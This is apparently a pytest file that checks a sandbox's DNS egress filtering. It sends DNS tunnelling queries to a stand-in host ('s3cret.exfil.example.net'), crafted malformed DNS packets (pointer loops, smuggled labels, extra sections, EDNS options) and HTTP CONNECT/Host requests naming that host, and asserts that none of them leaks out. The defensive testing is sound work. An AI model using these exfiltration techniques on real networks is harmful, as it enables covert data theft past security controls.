"""DNS carries nothing out: a name that no rule could permit is asked of nobody, and nothing is asked beside it."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

import dns.edns
import dns.flags
import dns.message
import dns.name
import dns.opcode
import dns.rcode
import dns.rdatatype
import dns.rrset
import dns.update
import pytest
from attacks import datagrams, requests, streams
from attacks.base import AUTHORIZED
from kit import zone

if TYPE_CHECKING:
    from kit.inside import Agent
    from kit.witness import Witness

pytestmark = [pytest.mark.root, pytest.mark.kernel]

NAME = "v4.one.example.com"
PERMITTED = "one.example.com"
SERVERS = ["9.9.9.9", "2620:fe::fe", "::ffff:9.9.9.9", zone.DNS_V4, "127.0.0.1", "127.0.0.53", "198.18.0.1"]
TUNNEL = "6162636465666768.s3cret.exfil.example.net"


def _query(name: str, rdtype: str = "A", **more: object) -> dns.message.Message:
    return dns.message.make_query(name, rdtype, **more)  # type: ignore[arg-type]  # dnspython's own keywords


def _ask(inside: Agent, query: dns.message.Message, server: str = "9.9.9.9", over: str = "udp") -> dns.message.Message:
    return dns.message.from_wire(bytes.fromhex(inside.call(datagrams.ask, server, 53, query.to_wire().hex(), over)))


@pytest.mark.parametrize(
    ("over", "server"),
    [pytest.param("udp", server, marks=pytest.mark.bypass("dns-over-udp")) for server in SERVERS]
    + [pytest.param("tcp", server, marks=pytest.mark.bypass("dns-over-tcp")) for server in SERVERS],
)
def test_whatever_server_is_asked_ours_answers(inside: Agent, witness: Witness, over: str, server: str) -> None:
    """A denied name is blocked there, and a permitted one is asked of the host's resolver alone."""
    assert _ask(inside, _query(TUNNEL), server, over).rcode() == dns.rcode.NXDOMAIN
    answer = _ask(inside, _query(PERMITTED), server, over)
    assert (answer.rcode(), len(answer.answer)) == (dns.rcode.NOERROR, 1)
    assert {seen.address for seen in witness.arrived("dns")} <= {zone.DNS_V4}


@pytest.mark.bypass("dns-over-udp")
@pytest.mark.parametrize("server", ["9.9.9.9", "2620:fe::fe"])
def test_the_answer_seems_to_come_from_whom_was_asked(inside: Agent, server: str) -> None:
    """So that no client falls back to another way."""
    assert inside.call(datagrams.who_answers, server, _query(PERMITTED).to_wire().hex()) == [server, 53]


@pytest.mark.bypass("dns-tunnelling")
@pytest.mark.parametrize(
    "rdtype",
    ["A", "AAAA", "TXT", "NULL", "CNAME", "MX", "SRV", "ANY", "HTTPS", "SVCB", "NS", "SOA", "DS", "PTR", "NAPTR"],
)
def test_a_denied_name_is_asked_of_nobody(inside: Agent, witness: Witness, rdtype: str) -> None:
    """Whatever its type, also below a permitted name and above."""
    for name in (
        TUNNEL,
        f"s3cret.{PERMITTED}",
        "s3cret.example.com",
        "example.com",
        "com",
        f"{PERMITTED}.s3cret.example.net",
        ".",
    ):
        assert _ask(inside, _query(name, rdtype)).rcode() != dns.rcode.NOERROR, name
    assert witness.arrived("dns") == []


@pytest.mark.bypass("dns-record-types", "encrypted-client-hello")
@pytest.mark.parametrize(
    "rdtype", ["TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX", "SRV", "CNAME", "NS", "SOA", "AXFR", "IXFR", "TYPE65280"]
)
def test_other_types_of_a_permitted_name_are_empty(inside: Agent, witness: Witness, rdtype: str) -> None:
    """TXT would be a channel back, HTTPS would carry keys for an encrypted hello; neither is forwarded."""
    answer = _ask(inside, _query(PERMITTED, rdtype), over="tcp")
    assert answer.answer == []
    assert witness.arrived("dns") == []


@pytest.mark.bypass("dns-letter-case")
def test_a_name_travels_in_one_case(inside: Agent, witness: Witness) -> None:
    """Fifteen letters would be fifteen bits a question."""
    for name in ("OnE.ExAmPlE.cOm", "oNe.eXaMpLe.CoM", "ONE.EXAMPLE.COM"):
        assert _ask(inside, _query(name)).rcode() == dns.rcode.NOERROR
    assert {seen.what.split()[0] for seen in witness.arrived("dns")} <= {f"{PERMITTED}."}


@pytest.mark.bypass("dns-reverse")
def test_reverse_names_are_asked_of_nobody(inside: Agent, witness: Witness) -> None:
    """Neither those of addresses nor what only looks like one."""
    for name in (
        "10.113.0.203.in-addr.arpa",
        "1.0.0.127.in-addr.arpa",
        "s3cret.in-addr.arpa",
        f"{'1.' * 31}1.ip6.arpa",
        "s3cret.1.ip6.arpa",
    ):
        _ask(inside, _query(name, "PTR"))
    assert witness.arrived("dns") == []


def _tricks() -> dict[str, bytes]:
    """Messages that say more, or other things, than one question."""
    two = _query(PERMITTED)
    two.question.append(dns.rrset.RRset(dns.name.from_text(TUNNEL), 1, dns.rdatatype.A))
    reverse = _query(TUNNEL)
    reverse.question.append(dns.rrset.RRset(dns.name.from_text(PERMITTED), 1, dns.rdatatype.A))
    more = _query(PERMITTED)
    for section in (more.answer, more.authority, more.additional):
        section.append(dns.rrset.from_text(f"{TUNNEL}.", 60, "IN", "TXT", '"s3cret"'))
    update = dns.update.UpdateMessage("example.com")
    update.add("s3cret.example.com", 60, "TXT", "s3cret")
    notify = _query(TUNNEL)
    notify.set_opcode(dns.opcode.NOTIFY)
    status = _query(TUNNEL)
    status.set_opcode(dns.opcode.STATUS)
    response = _query(PERMITTED)
    response.flags |= dns.flags.QR
    options = [
        dns.edns.ECSOption("192.0.2.99", 32),
        dns.edns.GenericOption(65001, b"s3cret" * 8),
        dns.edns.GenericOption(10, b"s3cret!!"),  # COOKIE
    ]
    optioned = _query(PERMITTED, use_edns=0, options=options, payload=4096)
    chaos = dns.message.make_query("version.bind", "TXT", "CH")
    header = struct.pack("!6H", 9, 0x100, 1, 0, 0, 0)
    loop = header + b"\x03one\xc0\x0c" + struct.pack("!2H", 1, 1)
    itself = header + b"\xc0\x0c" + struct.pack("!2H", 1, 1)
    forward = header + b"\xc0\x12" + struct.pack("!2H", 1, 1) + b"\x06s3cret\x00"
    split = struct.pack("!6H", 9, 0x100, 2, 0, 0, 0) + b"\x03one\x07example\x03com\0" + struct.pack("!2H", 1, 1)
    split += b"\x06s3cret\xc0\x10" + struct.pack("!2H", 1, 1)
    dotted = header + b"\x0fone.example.com\0" + struct.pack("!2H", 1, 1)
    nul = header + b"\x11one.example.com\0x\x07example\x03net\0" + struct.pack("!2H", 1, 1)
    escaped = header + b"\x0es3cret\\.one.ex\x03com\0" + struct.pack("!2H", 1, 1)
    trailing = _query(PERMITTED).to_wire() + b"s3cret" * 20
    return {
        "two questions": two.to_wire(),
        "two questions, denied first": reverse.to_wire(),
        "further sections": more.to_wire(),
        "update": update.to_wire(),
        "notify": notify.to_wire(),
        "status": status.to_wire(),
        "an answer": response.to_wire(),
        "options": optioned.to_wire(),
        "chaos": chaos.to_wire(),
        "loop": loop,
        "pointer to itself": itself,
        "pointer forward": forward,
        "compressed second question": split,
        "dots in a label": dotted,
        "NUL in a label": nul,
        "escape in a label": escaped,
        "bytes behind": trailing,
        "no question": struct.pack("!6H", 9, 0x100, 0, 0, 0, 0),
        "65535 questions": struct.pack("!6H", 9, 0x100, 0xFFFF, 0, 0, 0),
        "short": b"\0\1",
        "empty": b"",
        "label of type 01": header + b"\x41\x07\0" + struct.pack("!2H", 1, 1),
    }


@pytest.mark.bypass("dns-message-tricks")
def test_a_message_with_more_in_it_than_a_question_carries_nothing(inside: Agent, witness: Witness) -> None:
    """Of each at most the permitted name is asked of the host's resolver, with nothing beside it, and ours lives on."""
    messages = [wire.hex() for wire in _tricks().values()]
    for over in ("udp", "tcp"):
        assert len(inside.call(datagrams.ask_at_once, "9.9.9.9", 53, messages, over, 1.0)) == len(messages)
        assert {seen.what for seen in witness.arrived("dns")} <= {f"{PERMITTED}. A"}
    assert _ask(inside, _query(PERMITTED)).rcode() == dns.rcode.NOERROR


@pytest.mark.bypass("resolve-before-policy")
def test_a_denied_name_in_a_request_is_resolved_by_nobody(inside: Agent, witness: Witness) -> None:
    """By CONNECT, in absolute form, in a Host field, as a server name: judged before it is resolved."""
    close = "Connection: close\r\n\r\n"
    inside.call(
        requests.to_proxy,
        [
            [f"CONNECT s3cret.exfil.example.net:443 HTTP/1.1\r\nHost: x\r\n{AUTHORIZED}\r\n"],
            [f"GET http://s3cret.exfil.example.net/ HTTP/1.1\r\nHost: x\r\n{AUTHORIZED}{close}"],
        ],
    )
    inside.call(
        requests.to_server, "203.0.113.99", 80, [[f"GET / HTTP/1.1\r\nHost: s3cret.exfil.example.net\r\n{close}"]]
    )
    inside.call(requests.over_tls, "203.0.113.99", 443, "s3cret.exfil.example.net", "x")
    assert witness.arrived("dns") == []


@pytest.mark.bypass("encrypted-dns")
def test_the_hosts_resolver_cannot_be_asked_otherwise(inside: Agent, witness: Witness) -> None:
    """On another port, over TCP to another port, multicast, NetBIOS."""
    for port in (54, 5353, 5355, 137):
        assert inside.call(datagrams.ways, zone.DNS_V4, port) == {
            "sendto": "EPERM",
            "sendmsg": "EPERM",
            "connect": "EPERM",
        }
    answer = inside.call(streams.each_address, [zone.DNS_V4], 5353)[zone.DNS_V4]
    assert answer.startswith("HTTP/1.1 4") or answer == "ECONNRESET"
    assert witness.arrived("dns") == []
